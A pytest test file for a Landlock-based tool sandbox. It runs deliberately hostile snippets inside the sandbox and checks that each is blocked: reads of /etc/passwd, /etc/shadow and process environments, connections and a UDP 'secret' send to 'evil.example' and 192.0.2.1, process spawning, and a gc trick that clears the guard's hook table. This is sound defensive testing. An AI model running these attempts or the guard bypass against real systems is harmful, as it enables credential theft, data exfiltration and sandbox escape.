"""What a hostile tool tries, and what comes of it: real processes, real files, real connections on loopback."""

import errno
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from company.errors import Undeclared
from company.toolkit.worker import DENIED, WorkerFailure, landlock
from company.toolkit.worker.kernel import DESCRIPTORS

TRY = '''
import asyncio, ctypes, os, socket, sqlite3, subprocess, sys, tempfile

def tried(work):
    """Return what became of an attack: what it brought, or the error's number."""
    try:
        return f"got {work()!r}"[:80]
    except OSError as error:
        return error.errno
    except BaseException as error:
        return f"{type(error).__name__}: {error}"[:80]
'''

BREAK = """
    import gc
    for each in gc.get_objects():
        if type(each) is dict and "socket.connect" in each and "open" in each:
            each.clear()
"""


@contextmanager
def listening() -> Iterator[int]:
    """Listen on loopback, accept and forget."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=_accept, args=(server,), daemon=True).start()
        yield server.getsockname()[1]


def _accept(server: socket.socket) -> None:
    while True:
        try:
            server.accept()[0].close()
        except OSError:
            return


async def test_files_outside_are_neither_read_nor_written_in_any_way(written, call, events, root, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("the secret")
    (outside / "open").mkdir()
    (outside / "open/allowed").write_text("allowed")
    body = """
    secret, folder = given["secret"], given["folder"]
    (reach.folder / "mine").write_text("x")
    os.symlink(".", "here")
    open("here/also", "w").close()
    return {
        "read": tried(lambda: open(secret).read()),
        "books": tried(lambda: open(given["books"]).read()),
        "settings": tried(lambda: open(given["settings"]).read()),
        "other tool": tried(lambda: open("../other/kept").read()),
        "descriptor": tried(lambda: os.open(secret, os.O_RDONLY)),
        "database": tried(lambda: sqlite3.connect(secret)),
        "list": tried(lambda: os.listdir(folder)),
        "passwd": tried(lambda: open("/etc/passwd").read()),
        "environment": tried(lambda: open(f"/proc/{os.getppid()}/environ").read()),
        "write": tried(lambda: open(folder + "/new", "w")),
        "remove": tried(lambda: os.remove(secret)),
        "move in": tried(lambda: os.rename(secret, "stolen")),
        "move out": tried(lambda: os.rename("mine", folder + "/mine")),
        "hard link": tried(lambda: os.link(secret, "linked")),
        "symbolic link": tried(lambda: os.symlink(secret, "link")),
        "through it": tried(lambda: open("../../../../outside/secret").read()),
        "mode": tried(lambda: os.chmod(secret, 0o777)),
        "temporary": tried(lambda: tempfile.NamedTemporaryFile(dir="/tmp")),
        "allowed": tried(lambda: reach.files[0].joinpath("allowed").read_text()),
        "own": tried(lambda: open("here/mine").read()),
        "write allowed": tried(lambda: reach.files[0].joinpath("allowed").write_text("x")),
    }
    """
    other = root / ".company/tools/other"
    other.mkdir(parents=True)
    (other / "kept").write_text("of another tool")
    given = {
        "secret": str(outside / "secret"),
        "folder": str(outside),
        "books": str(root / ".company/company.db"),
        "settings": str(root / "company.toml"),
    }
    found = await call(*written(body, before=TRY, files=[str(outside / "open")]), given)
    assert (found.pop("allowed"), found.pop("own")) == ("got 'allowed'", "got 'x'")
    assert {name: came for name, came in found.items() if came != errno.EACCES} == {}
    assert {name for name, _ in events} == {DENIED}
    assert ("file", str(outside / "secret")) in {(value["capability"], value["what"]) for _, value in events}
    assert sorted(each.name for each in outside.iterdir()) == ["open", "secret"]
    assert sorted(each.name for each in (root / ".company/tools/probe").iterdir()) == ["also", "here", "mine"]


async def test_only_declared_hosts_are_reached_by_any_way(written, call, events):
    body = """
    import httpx
    port, other = int(given["port"]), int(given["other"])

    def asked(where):
        with socket.create_connection(where, timeout=2):
            return "there"

    def sent(where):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            return udp.sendto(b"secret", where)

    async def streamed(where):
        try:
            await asyncio.open_connection(*where)
        except OSError as error:
            return error.errno
        return "there"

    async def fetched(url):
        try:
            async with httpx.AsyncClient() as client:
                await client.get(url)
        except httpx.ConnectError as error:
            return "refused"
        except httpx.HTTPError:
            return "there"

    with socket.socket() as bare:
        bare_name = tried(lambda: bare.connect(("evil.example", 443)))
    with socket.socket(socket.AF_INET) as server:
        served = tried(lambda: server.bind(("127.0.0.1", 0)))
    return {
        "declared": [asked(("localhost", port)), await streamed(("localhost", port)),
                     await fetched(f"http://localhost:{port}/")],
        "host": tried(lambda: asked(("evil.example", 443))),
        "bare": bare_name,
        "port": tried(lambda: asked(("127.0.0.1", other))),
        "address": tried(lambda: asked(("192.0.2.1", port))),
        "mapped": tried(lambda: asked(("::ffff:192.0.2.1", port))),
        "udp": tried(lambda: sent(("192.0.2.1", 53))),
        "name": tried(lambda: socket.gethostbyname("evil.example")),
        "asyncio": await streamed(("evil.example", 443)),
        "httpx": await fetched("https://evil.example/"),
        "httpx port": await fetched(f"http://127.0.0.1:{other}/"),
        "local": tried(lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock")),
        "server": served,
    }
    """
    with listening() as port, listening() as other:
        found = await call(
            *written(body, before=TRY, hosts=[f"localhost:{port}"]), {"port": str(port), "other": str(other)}
        )
    assert found.pop("declared") == ["there"] * 3
    assert (found.pop("httpx"), found.pop("httpx port")) == ("refused", "refused")
    assert found.pop("local") in {errno.EACCES, errno.EPERM}
    assert {name: came for name, came in found.items() if came != errno.EACCES} == {}
    told = {value["what"] for _, value in events}
    assert {"evil.example:443", "evil.example", "192.0.2.1:53", f"127.0.0.1:{other}"} <= told


async def test_nothing_is_started_signalled_or_loaded(written, call, events):
    body = """
    import _posixsubprocess, signal
    return {
        "program": tried(lambda: subprocess.run(["true"])),
        "shell": tried(lambda: os.system("true")),
        "fork": tried(os.fork),
        "exec": tried(lambda: os.execv("/bin/true", ["true"])),
        "spawn": tried(lambda: os.posix_spawn("/bin/true", ["true"], {})),
        "beneath": tried(lambda: _posixsubprocess.fork_exec(*[None] * 23)),
        "asyncio": await told(asyncio.create_subprocess_exec("true")),
        "signal": tried(lambda: os.kill(os.getppid(), 0)),
        "library": tried(lambda: ctypes.CDLL(None).getpid()),
        "memory": tried(lambda: ctypes.string_at(0)),
        "limits": tried(lambda: __import__("resource").setrlimit(0, (1, 1))),
    }
    """
    before = (
        TRY
        + '''
async def told(work):
    """Return what `tried` does of a coroutine."""
    try:
        return f"got {await work!r}"
    except OSError as error:
        return error.errno
'''
    )
    found = await call(*written(body, before=before))
    assert {name: came for name, came in found.items() if came != errno.EACCES} == {}
    assert {value["capability"] for _, value in events} == {"process"}


async def test_a_denial_that_is_not_swallowed_is_the_outcome_and_what_is_imported_is_held_too(written, call, tmp_path):
    (tmp_path / "secret").write_text("x")
    with pytest.raises(Undeclared, match="undeclared file: /etc/shadow") as caught:
        await call(*written("return open('/etc/shadow').read()"))
    assert (caught.value.capability, caught.value.what) == ("file", "/etc/shadow")
    before = TRY + f"\nAT_IMPORT = tried(lambda: open({str(tmp_path / 'secret')!r}).read())\n"
    with pytest.raises(Undeclared, match=r"undeclared network: evil\.example:443"):
        await call(*written("socket.create_connection(('evil.example', 443))", before=before))


async def test_a_secret_that_is_not_declared_is_a_denial(written, call, events):
    body = """
    reach.secret("weather")
    return tried(lambda: reach.secret("other"))
    """
    assert await call(*written(body, before=TRY, secrets=["weather"])) == "Undeclared: undeclared secret: other"
    assert events == [(DENIED, {"tool": "probe", "capability": "secret", "what": "other"})]


async def test_import_time_code_reaches_no_declared_host_and_is_reported(written, call, events):
    with listening() as port:
        before = TRY + f"\nAT_IMPORT = tried(lambda: socket.create_connection(('127.0.0.1', {port})))\n"
        found = await call(*written("return AT_IMPORT", before=before, hosts=[f"127.0.0.1:{port}"]))
    assert found == errno.EACCES
    assert events == [(DENIED, {"tool": "probe", "capability": "network", "what": f"127.0.0.1:{port}"})]


async def test_memory_is_limited_and_its_exhaustion_is_a_denial(written, call):
    tool = written("held = bytearray(600_000_000 if given else 1)\nreturn len(held)", memory_mb=100)
    with pytest.raises(Undeclared) as caught:
        await call(*tool, {"eat": "it"})
    assert (caught.value.capability, caught.value.what) == ("memory", "100 MB")
    assert await call(*tool) == 1


@pytest.mark.parametrize(
    ("body", "told"),
    [
        (
            "import os\nprint('last words')\nimport sys; sys.stdout.flush()\nos._exit(7)",
            "code 7; it last printed: last w",
        ),
        ("import os\nos.abort()", "signal 6"),
        ("import os\n[os.write(fd, b'garbage' * 9) for fd in range(3, 256) if _is_pipe(fd)]\nos._exit(0)", "no answer"),
        (
            "import os, struct\n[os.write(fd, struct.pack('>I', 2**31)) for fd in range(3, 256) if _is_pipe(fd)]",
            "no answer",
        ),
        ("import json\n_answer({'value': 1, 'trust': 'trusted'})\nimport time; time.sleep(9)", "Extra inputs"),
        ("return 'x' * 2_000_000", "2,000,.* bytes"),
        ("return float", "result type|passed on|serialize"),
    ],
)
async def test_a_worker_that_breaks_or_lies_breaks_nobody_else(written, call, body, told):
    before = """
    import json, os, stat, struct
    def _is_pipe(fd):
        try:
            os.write(fd, b"")
            return stat.S_ISFIFO(os.fstat(fd).st_mode)
        except OSError:
            return False
    def _answer(message):
        data = json.dumps(message).encode()
        [os.write(fd, struct.pack(">I", len(data)) + data) for fd in range(3, 256) if _is_pipe(fd)]
    """
    with pytest.raises(WorkerFailure, match=told):
        await call(*written(body, before=before))


async def test_files_and_descriptors_are_limited(written, call):
    body = """
    held = []
    try:
        while True:
            held.append(open("/dev/null"))
    except OSError as error:
        held, number = [], error.errno
    with open("large", "wb") as large:
        large.truncate(10)
        return [number, tried(lambda: large.truncate(10**12))]
    """
    assert DESCRIPTORS < 1000
    assert await call(*written(body, before=TRY)) == [errno.EMFILE, errno.EFBIG]


@pytest.mark.skipif(
    landlock.version() < landlock.CONNECTIONS, reason="this kernel has no Landlock, or one that holds no connections"
)
async def test_the_kernel_holds_what_broke_the_guard(written, call, events, tmp_path):
    (tmp_path / "secret").write_text("x")
    body = (
        """
    before = tried(lambda: open(given["secret"]).read())
    """
        + BREAK.replace("\n    ", "\n").replace("\n", "\n    ")
        + """
    sys.modules.pop("ctypes", None)
    return {
        "before": before,
        "read": tried(lambda: open(given["secret"]).read()),
        "write": tried(lambda: open(given["secret"], "w")),
        "books": tried(lambda: open(given["books"]).read()),
        "connect": tried(lambda: socket.create_connection(("127.0.0.1", int(given["other"])), timeout=2)),
        "declared": tried(lambda: socket.create_connection(("127.0.0.1", int(given["port"])), timeout=2).close()),
        "fork": tried(os.fork),
        "exec": tried(lambda: os.execv("/bin/true", ["true"])),
        "signal": tried(lambda: os.kill(os.getppid(), 0)),
        "local": tried(lambda: socket.socket(socket.AF_UNIX)),
        "privileges": tried(lambda: os.chroot(".")),
        "native": tried(lambda: __import__("ctypes").CDLL(None).open(given["secret"].encode(), 0)),
    }
    """
    )
    given = {"secret": str(tmp_path / "secret"), "books": str(tmp_path / "acme/.company/company.db")}
    with listening() as port, listening() as other:
        tool = written(body, before=TRY, hosts=[f"127.0.0.1:{port}"])
        found = await call(*tool, {**given, "port": str(port), "other": str(other)})
    assert found.pop("declared") == "got None"
    assert found.pop("native") == "got -1"
    assert {name: came for name, came in found.items() if came not in {errno.EACCES, errno.EPERM}} == {}
    assert len(events) == 1  # of `before`: the guard was gone then


async def test_without_hosts_there_is_no_network_even_without_the_guard(written, call):
    from company.toolkit.worker import containment

    if not {layer.name: layer.available for layer in containment()}["own network"]:
        pytest.skip("this system lets no process have a network of its own")
    body = (
        BREAK.strip().replace("\n    ", "\n")
        + """
    return tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)))
    """.replace("\n    ", "\n")
    )
    assert await call(*written(body, before=TRY)) == errno.ENETUNREACH
